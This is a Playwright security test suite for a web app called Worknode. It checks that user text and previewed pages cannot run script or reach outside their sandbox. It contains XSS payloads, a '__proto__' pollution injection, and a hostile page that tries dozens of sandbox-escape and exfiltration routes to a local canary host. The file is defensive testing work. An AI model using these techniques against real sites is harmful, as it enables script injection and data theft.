/**
 * What strangers write, everywhere it is shown, in the built app under its own policy: nothing of it runs, asks or leaves.
 *
 * `planted` and `reached` are functions of the test that exist in every page and frame. A payload that runs calls the first; an
 * artefact in its sandbox calls the second for each thing that it got at. The texts are in `hostile-text.json`.
 */

import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import corpus from './hostile-text.json' with { type: 'json' }
import { expect, test } from './host.ts'
import { arrive, importPlan, newWorkspace, onBoard } from './people.ts'

const TITLE_CHARS = 500
const NAME_CHARS = 200

interface Watched {
  readonly calls: string[]
  readonly leaks: string[]
}

/** Everything that must not happen, as it happens. */
async function watch(page: Page, origin: string): Promise<Watched> {
  const [calls, leaks]: [string[], string[]] = [[], []]
  await page.context().exposeBinding('planted', (_source, name: string) => void calls.push(name))
  page.on('dialog', (dialog) => {
    calls.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('popup', () => calls.push('popup'))
  page.context().on('request', (request) => {
    const url = request.url()
    if (!url.startsWith(origin) && !/^(?:data|blob|about):/.test(url)) leaks.push(url)
  })
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', (event) => {
      console.error(`violation of ${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`)
    })
  })
  page.on('console', (message) => {
    if (message.text().includes('violation of ') || message.text().includes('Content Security Policy')) leaks.push(message.text())
  })
  page.on('pageerror', (error) => calls.push(`error ${error.message}`))
  return { calls, leaks }
}

test('texts of strangers are text in every place where they are shown', async ({ browser, host }) => {
  expect(corpus.length).toBeGreaterThanOrEqual(60)
  const { page } = await arrive(browser, 'about:blank')
  const seen = await watch(page, host.url)
  await page.goto(host.url)
  await newWorkspace(page, '<img src=x onerror=planted("workspace")>')

  const places = await page.evaluate(
    ({ texts, titleChars, nameChars }) => {
      const { worknode } = window
      const whole = (text: string, chars: number): string => text.trim().slice(0, chars) || 'x'
      const words = (text: string): string => whole(text, nameChars)
      const done = (result: ReturnType<typeof worknode.run>): never | { readonly id: string; readonly key: string } => {
        if (!result.ok) throw new Error(result.refusal.detail)
        return result.value as never
      }
      void worknode.setName(words(texts[0] as string), '#5b5bd6')
      const documents: string[] = []
      const keys = texts.map((text) => {
        const task = done(
          worknode.run('create_task', {
            title: whole(text, titleChars),
            body: text,
            labels: [words(text)],
            assignees: [words(text)],
            kind: words(text),
          }),
        )
        worknode.run('comment_task', { id: task.id, body: text.trim() || 'x' })
        worknode.run('add_check', { id: task.id, text: whole(text, titleChars) })
        worknode.run('complete_subtask', { id: task.id, subtask: words(text) })
        worknode.run('create_agent', { name: words(text), role: words(text), model: words(text) })
        worknode.run('create_project', { title: whole(text, titleChars) })
        // Not every text is a path: those that are not are refused, as they should be.
        const path = worknode.run('add_document', { id: task.id, path: `${text.normalize('NFC')}.md`, content: text })
        if (path.ok) documents.push(path.value.id)
        return task.key
      })
      for (const [i, text] of texts.entries())
        for (const end of ['md', 'html', 'svg', 'css', 'js', 'json', 'py', 'txt'])
          if (i % 8 === ['md', 'html', 'svg', 'css', 'js', 'json', 'py', 'txt'].indexOf(end) || end === 'md') {
            const made = worknode.run('create_document', { path: `all/${i}.${end}`, content: text })
            if (made.ok) documents.push(made.value.id)
          }
      return { keys, documents, workspace: worknode.workspaceId }
    },
    { texts: corpus.map(({ text }) => text), titleChars: TITLE_CHARS, nameChars: NAME_CHARS },
  )
  expect(places.documents.length).toBeGreaterThan(corpus.length)
  await page.evaluate(() => window.worknode.replica.saved())

  const goTo = (address: string) => page.evaluate((hash) => (location.hash = hash), address)
  const base = `#/w/${places.workspace}`
  for (const view of ['board', 'people', 'network', 'files', 'agents', 'inbox', 'activity', 'insights']) {
    await goTo(`${base}/${view}`)
    await expect(page.getByRole('main')).toBeVisible()
  }
  for (const [i, key] of places.keys.entries()) {
    await goTo(`${base}/task/${key}`)
    const panel = page
      .getByRole('main')
      .locator('aside')
      .filter({ has: page.getByRole('textbox', { name: 'Title' }) })
    await expect(panel.getByText(key, { exact: true })).toBeVisible()
    // The Markdown is drawn, not only its text as it was typed.
    await expect(panel.getByRole('heading', { name: 'Comments' })).toBeVisible()
    // Every link that is there leads to the web or to mail, and to the app itself.
    const addresses = await panel.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''))
    expect(
      addresses.filter((href) => !/^(?:https?:|mailto:|#\/)/.test(href)),
      corpus[i]?.name,
    ).toEqual([])
  }
  for (const id of places.documents) {
    await goTo(`${base}/files/${id}`)
    await expect(page.getByRole('tab', { name: 'Content' })).toBeVisible()
    await expect(page.locator('article')).toBeVisible()
  }
  expect(await page.evaluate(() => 'polluted' in {} || 'isAdmin' in {})).toBe(false)
  // What would run as the page is looked at again runs then: from disk.
  await goTo(`${base}/board`)
  await page.reload()
  await onBoard(page)
  expect(seen).toEqual({ calls: [], leaks: [] })
})

test('a plan that is imported is text, names and keys of objects included', async ({ browser, host }) => {
  const { page } = await arrive(browser, 'about:blank')
  const seen = await watch(page, host.url)
  await page.goto(host.url)
  const lines = corpus.map(({ text }, i) =>
    JSON.stringify({
      id: `x-${i}`,
      title: text.slice(0, TITLE_CHARS) || 'x',
      description: text,
      status: 'open',
      priority: 2,
      issue_type: text.slice(0, NAME_CHARS),
      labels: [text.slice(0, NAME_CHARS)],
      assignee: text.slice(0, NAME_CHARS),
      comments: [{ author: text.slice(0, NAME_CHARS), text, created_at: '2026-01-01T00:00:00Z' }],
      created_at: '2026-01-01T00:00:00Z',
    }).replace('"issue_type"', '"__proto__":{"polluted":true},"issue_type"'),
  )
  await importPlan(page, {
    name: '<img src=x onerror=planted(1)>.jsonl',
    mimeType: 'text/plain',
    buffer: Buffer.from(lines.join('\n')),
  })
  await expect.poll(() => page.evaluate(() => [...window.worknode.replica.views.tasks()].length)).toBe(corpus.length)
  const keys = await page.evaluate(() => {
    const { views } = window.worknode.replica
    return [...views.tasks()].map((id) => views.task(id)?.key ?? '')
  })
  for (const key of keys.filter((_, i) => i % 5 === 0)) {
    await page.evaluate(
      ([id, name]) => (location.hash = `#/w/${id}/task/${name}`),
      [await page.evaluate(() => window.worknode.workspaceId), key],
    )
    await expect(page.getByRole('main').getByText(key, { exact: true }).first()).toBeVisible()
  }
  expect(await page.evaluate(() => 'polluted' in {})).toBe(false)
  expect(seen).toEqual({ calls: [], leaks: [] })
})

test('no text becomes HTML or a script of the page, whoever in it tries', async ({ host, page }) => {
  await page.goto(host.url)
  await expect(page.getByRole('heading', { name: 'Worknode', level: 1 })).toBeVisible()
  const outcome = await page.evaluate(() => {
    const attempt = (run: () => unknown): string => {
      try {
        run()
        return 'done'
      } catch (error) {
        return (error as Error).name
      }
    }
    return {
      html: attempt(() => (document.createElement('div').innerHTML = '<b>x</b>')),
      parse: attempt(() => new DOMParser().parseFromString('<b>x</b>', 'text/html')),
      frame: attempt(() => (document.createElement('iframe').srcdoc = 'x')),
      script: attempt(() => (document.createElement('script').src = 'x.js')),
      worker: attempt(() => new Worker('x.js')),
      policy: attempt(() =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
        ).trustedTypes.createPolicy('other', {}),
      ),
    }
  })
  expect(outcome).toEqual({
    html: 'TypeError',
    parse: 'TypeError',
    frame: 'TypeError',
    script: 'TypeError',
    worker: 'TypeError',
    policy: 'TypeError',
  })
})

test('an artefact in its frame works, and gets at nothing outside of it', async ({ browser, host }) => {
  const heard: string[] = []
  const canary = createServer((request, response) => {
    heard.push(`http ${request.url}`)
    response.setHeader('access-control-allow-origin', '*')
    response.end('x')
  }).listen(0, '127.0.0.1')
  canary.on('connection', () => heard.push('connection'))
  const stun = createSocket('udp4').bind(0)
  stun.on('message', () => heard.push('stun'))
  await Promise.all([once(canary, 'listening'), once(stun, 'listening')])
  const leak = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`

  const { page } = await arrive(browser, 'about:blank')
  const reached: string[] = []
  const tried: string[] = []
  await page.context().exposeBinding('reached', (_source, name: string) => void reached.push(name))
  await page.context().exposeBinding('tried', (_source, name: string) => void tried.push(name))
  page.on('dialog', (dialog) => {
    reached.push('dialog')
    void dialog.dismiss()
  })
  page.on('popup', () => reached.push('popup'))
  await page.goto(host.url)
  await newWorkspace(page, 'Apollo')
  const id = await page.evaluate(
    ({ attack, parts }) => {
      const { worknode } = window
      for (const [path, content] of parts) worknode.run('create_document', { path, content })
      const made = worknode.run('create_document', { path: 'web/index.html', content: attack })
      return made.ok ? made.value.id : ''
    },
    {
      attack: hostilePage(leak, stun.address().port),
      parts: [
        ['web/style.css', '@import "more.css"; h1 { color: rgb(1, 2, 3) }'],
        ['web/more.css', 'h1 { background: url(dot.svg) }'],
        ['web/dot.svg', '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"></svg>'],
        ['web/app.js', "document.querySelector('h1').textContent += ' with its script'"],
        ['web/late.js', "import { words } from './lib/words.js'; document.querySelector('h1').textContent += words"],
        ['web/lib/words.js', "export const words = ' and its module'"],
      ] as [string, string][],
    },
  )
  await page.evaluate(
    ([workspace, document]) => (location.hash = `#/w/${workspace}/files/${document}`),
    [await page.evaluate(() => window.worknode.workspaceId), id],
  )
  await page.getByRole('tab', { name: 'Preview' }).click()
  await page.getByRole('button', { name: 'Run preview' }).click()

  // The page and what belongs to it works.
  const frame = page.frameLocator('iframe[title="Preview of web/index.html"]')
  const heading = frame.getByRole('heading', { name: 'A page with its script and its module' })
  await expect(heading).toBeVisible()
  expect(await heading.evaluate((element) => getComputedStyle(element).color)).toBe('rgb(1, 2, 3)')
  expect(await heading.evaluate((element) => getComputedStyle(element).backgroundImage)).toContain('data:image/svg+xml')

  // And everything else was tried. Where the frame would go elsewhere, it ends.
  await frame.getByRole('button', { name: 'Begin' }).click()
  await expect.poll(() => tried).toContain('the end')
  const isGone = async (): Promise<void> =>
    expect.poll(() => page.frames().map((one) => one.url())).toContain('chrome-error://chromewebdata/')
  await isGone()
  await expect(page.getByRole('region', { name: 'Messages of the preview' })).toContainText('Not allowed in a preview')
  await page.getByRole('button', { name: 'Run again' }).click()
  // Its buttons do something once its scripts have run.
  await expect(heading).toBeVisible()
  await frame.getByRole('button', { name: 'Go to data' }).click()
  await isGone()
  expect(tried.length).toBeGreaterThan(30)
  expect(reached).toEqual([])
  expect(heard).toEqual([])
  // The app stands where it stood.
  await expect(page.getByRole('tab', { name: 'Preview' })).toBeVisible()
  expect(new URL(page.url()).hash).toContain(`/files/${id}`)
  canary.close()
  stun.close()
})

/** A page that tries whatever comes to mind, and says what worked. */
function hostilePage(leak: string, stunPort: number): string {
  return `<!doctype html>
<html><head>
<meta http-equiv="refresh" content="1;url=${leak}/refresh">
<base href="${leak}/">
<link rel="stylesheet" href="style.css"><link rel="preconnect" href="${leak}"><link rel="dns-prefetch" href="${leak}">
<link rel="stylesheet" href="${leak}/s.css"><link rel="prefetch" href="${leak}/prefetch"><link rel="icon" href="${leak}/icon">
<script src="${leak}/s.js"></script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${leak}/rules"]}]}</script>
<script src="app.js" defer></script><script type="module" src="late.js"></script>
</head><body><h1>A page</h1><button id="begin">Begin</button><button id="data">Go to data</button>
<img src="${leak}/img"><video src="${leak}/video" poster="${leak}/poster"></video><iframe src="${leak}/frame"></iframe>
<iframe srcdoc="<script>new RTCPeerConnection;reached('nested markup')</script>"></iframe><object data="${leak}/object"></object>
<form action="${leak}/form" method="post" target="_top"><button>x</button></form><a id="out" href="${leak}/a" ping="${leak}/ping" target="_top">x</a>
<template id="t"><iframe srcdoc="<script>reached('template frame')</script>"></iframe></template>
<script>
const said = (name) => tried(name)
const attempt = async (name, run) => { try { const got = await run(); if (got) reached(name + ' ' + got) } catch {} said(name) }
const child = '<scr' + 'ipt>try{new RTCPeerConnection;reached("a nested frame runs")}catch{}</scr' + 'ipt>'
;document.getElementById('begin').onclick = async () => {
  await attempt('parent.document', () => parent.document && 'document')
  await attempt('parent.worknode', () => parent.worknode && 'worknode')
  await attempt('top.location', () => { top.location = '${leak}/top' })
  await attempt('top.location.href', () => { top.location.href = '${leak}/top' })
  await attempt('parent.location.hash', () => parent.location.hash)
  await attempt('opener', () => opener && 'opener')
  await attempt('frameElement', () => frameElement && 'frame')
  await attempt('fetch', async () => (await fetch('${leak}/fetch', { mode: 'no-cors' })) && 'answer')
  await attempt('fetch of the host', async () => (await fetch(location.href.replace('preview.html', 'api/health'))).status)
  await attempt('XMLHttpRequest', () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open('GET', '${leak}/xhr'); x.onload = () => yes('answer'); x.onerror = no; x.send() }))
  await attempt('WebSocket', () => new Promise((yes, no) => { const s = new WebSocket('${leak.replace('http', 'ws')}/ws'); s.onopen = () => yes('open'); s.onerror = no }))
  await attempt('EventSource', () => new Promise((yes, no) => { const s = new EventSource('${leak}/events'); s.onopen = () => yes('open'); s.onerror = no }))
  await attempt('sendBeacon', () => { navigator.sendBeacon('${leak}/beacon', 'x') })
  await attempt('WebTransport', async () => { await new WebTransport('${leak.replace('http', 'https')}/wt').ready; return 'ready' })
  await attempt('localStorage', () => localStorage && 'storage')
  await attempt('sessionStorage', () => sessionStorage && 'storage')
  await attempt('indexedDB', () => new Promise((yes, no) => { const o = indexedDB.open('x'); o.onsuccess = () => yes('open'); o.onerror = no }))
  await attempt('caches', async () => (await caches.open('x')) && 'open')
  await attempt('cookie', () => { document.cookie = 'a=1'; return document.cookie })
  await attempt('serviceWorker', async () => (await navigator.serviceWorker.register('data:text/javascript,')) && 'registered')
  await attempt('Worker', () => new Promise((yes, no) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = () => yes('ran'); w.onerror = no }))
  await attempt('SharedWorker', () => new Promise((yes, no) => { const w = new SharedWorker('data:text/javascript,onconnect=e=>e.ports[0].postMessage(1)'); w.port.onmessage = () => yes('ran'); w.onerror = no; setTimeout(no, 300) }))
  await attempt('BroadcastChannel', () => { new BroadcastChannel('worknode').postMessage('x') })
  await attempt('window.open', () => open('${leak}/open') && 'window')
  await attempt('alert', () => alert('x'))
  await attempt('form', () => document.forms[0].submit())
  await attempt('form by hand', () => { const f = document.createElement('form'); f.action = '${leak}/form2'; document.body.append(f); f.submit() })
  await attempt('link', () => { const a = document.createElement('a'); a.href = '${leak}/click'; a.target = '_top'; a.ping = '${leak}/ping'; document.body.append(a); a.click() })
  await attempt('download', () => { const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x'; document.body.append(a); a.click() })
  await attempt('eval', () => eval('"ran"'))
  await attempt('Function', () => Function('return "ran"')())
  await attempt('import', async () => (await import('${leak}/import.js')) && 'module')
  await attempt('image', () => new Promise((yes, no) => { const i = new Image; i.onload = () => yes('loaded'); i.onerror = no; i.src = '${leak}/image' }))
  await attempt('css', () => { document.body.style.backgroundImage = 'url(${leak}/css)' })
  await attempt('font', async () => { const f = new FontFace('x', 'url(${leak}/font)'); await f.load(); return 'loaded' })
  await attempt('RTCPeerConnection', () => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stunPort}' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); return 'made' })
  await attempt('webkitRTCPeerConnection', () => new webkitRTCPeerConnection && 'made')
  await attempt('createElement iframe', () => { const f = document.createElement('iframe'); f.srcdoc = child; document.body.append(f); return 'frame' })
  await attempt('createElement twice faced', () => { let n = 0; const f = document.createElement({ toString: () => (n++ ? 'iframe' : 'div') }); f.setAttribute('srcdoc', child); document.body.append(f); return f.localName === 'iframe' && 'frame' })
  await attempt('createElementNS', () => document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe') && 'frame')
  await attempt('createDocument', () => document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe', null) && 'frame')
  await attempt('innerHTML', () => { document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="' + child.replaceAll('"', '&quot;') + '"></iframe>'); return document.querySelector('iframe') && 'frame' })
  await attempt('innerHTML with a spoilt replace', () => { String.prototype.replace = function () { return String(this) }; try { RegExp.prototype[Symbol.replace] = (s) => s } catch {} const d = document.createElement('div'); d.innerHTML = '<iframe></iframe>'; return d.querySelector('iframe') && 'frame' })
  await attempt('XML', () => { const d = new DOMParser().parseFromString('<x:iframe xmlns:x="http://www.w3.org/1999/xhtml"/>', 'text/xml'); return d.querySelector('iframe') && 'frame' })
  await attempt('XML entity', () => { const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY a "&#60;iframe xmlns=\\'http://www.w3.org/1999/xhtml\\'/>">]><x>&a;</x>', 'text/xml'); return d.querySelector('iframe') && 'frame' })
  await attempt('fragment', () => { document.body.append(document.createRange().createContextualFragment('<iframe srcdoc="x"></iframe>')); return document.querySelector('iframe') && 'frame' })
  await attempt('template', () => { document.body.append(document.getElementById('t').content.cloneNode(true)); return document.querySelector('iframe') && 'frame' })
  await attempt('setHTMLUnsafe', () => { const d = document.createElement('div'); d.setHTMLUnsafe('<iframe></iframe>'); return d.querySelector('iframe') && 'frame' })
  await attempt('custom element', () => { class F extends HTMLIFrameElement {} customElements.define('x-f', F, { extends: 'iframe' }); return new F && 'frame' })
  await attempt('execCommand', () => { document.body.contentEditable = true; getSelection().selectAllChildren(document.body); getSelection().collapseToEnd(); document.execCommand('insertHTML', false, '<iframe></iframe>'); document.body.contentEditable = false; return document.querySelector('iframe') && 'frame' })
  await attempt('document.write', () => { document.write('<ifr'); document.write('ame></iframe>'); return document.querySelector('iframe') && 'frame' })
  await attempt('preconnect', () => { const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '${leak}'; document.head.append(l); return 'link' })
  await attempt('speculation rules', () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.text = '{"prefetch":[{"source":"list","urls":["${leak}/rules2"]}]}'; document.head.append(s) })
  await attempt('messages', () => { parent.postMessage({ html: 'x' }, '*'); parent.postMessage('planted', '*') })
  await attempt('location script', () => { location.href = 'javascript:reached("javascript page")' })
  await new Promise((r) => setTimeout(r, 500))
  said('the end')
  location.href = '${leak}/location'
}
document.getElementById('data').onclick = () => { location.href = 'data:text/html,<script>reached("data page")</scr' + 'ipt>' }
</script></body></html>`
}
